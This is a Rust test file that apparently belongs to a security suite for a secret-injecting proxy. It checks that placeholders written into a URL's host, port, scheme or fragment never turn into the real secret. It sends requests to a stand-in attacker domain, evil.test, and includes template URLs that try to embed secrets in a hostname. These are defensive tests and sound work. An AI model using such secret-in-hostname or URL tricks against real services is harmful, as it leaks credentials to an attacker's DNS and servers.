//! B7: the placeholder as a part of host, port, scheme or fragment. Nothing is ever put into an authority: what the
//! attacker's name server and host see is the placeholder.

use serde_json::json;

use crate::{
    ensure,
    lease::Way,
    scene::{Scene, Verdict},
    world::World,
};

pub(crate) async fn case(world: &'static World) -> Verdict {
    let scene = Scene::new(world, "B7").await;
    // Whatever is below evil.test can be reached.
    let below = json!([
        {"host": "*.evil.test", "port": world.evil.port},
        {"host": "*.evil.test", "scheme": "http", "port": world.evil.plain_port, "exclusive": false},
    ]);
    scene.secret("BELOW", "text", below, json!({"value": crate::scene::random_value()})).await;
    let lease = scene.lease().await;
    scene.works(&lease).await;
    let ph = lease.ph("KEY");
    let host = format!("{}.evil.test", ph.replace('_', "-"));
    let authority = format!("{host}:{}", world.evil.plain_port);
    let answer = lease.send(Way::Absolute, "GET", &authority, "/", &[], b"").await;
    ensure!(answer.status == 200, "{}", answer.text());
    ensure!(world.names.asked(&host.to_lowercase()) > 0, "the name asked for was changed");
    for authority in [
        format!("{ph}.evil.test:{}", world.evil.plain_port),
        format!("{}:{ph}", scene.good),
        format!("{ph}:443"),
        format!("{}.{ph}:443", scene.good),
    ] {
        for way in [Way::Absolute, Way::Base] {
            let answer = lease.send(way, "GET", &authority, "/", &[], b"").await;
            scene.noleak("an answer", &answer.raw)?;
        }
        let (_, answer) = lease.connect(&authority).await;
        scene.noleak("an answer", &answer.raw)?;
    }
    // A fragment is not sent at all.
    let answer =
        scene.ask(&lease, "GET", &format!("/x#{ph}"), &[("Authorization", &lease.bearer("KEY"))], b"").await;
    ensure!(answer.status == 400 || !scene.last().line().contains('#'), "{}", scene.last().line());
    // And a reference cannot be written there.
    for url in
        ["https://{{secrets.KEY}}.evil.test/", "https://evil.test:{{secrets.KEY}}/", "{{secrets.KEY}}://x/"]
    {
        let reply = scene.sealed(&json!({"url": url})).await;
        ensure!(matches!(reply.status, 403 | 422), "{url}: {}", reply.text);
    }
    scene.nosend()
}
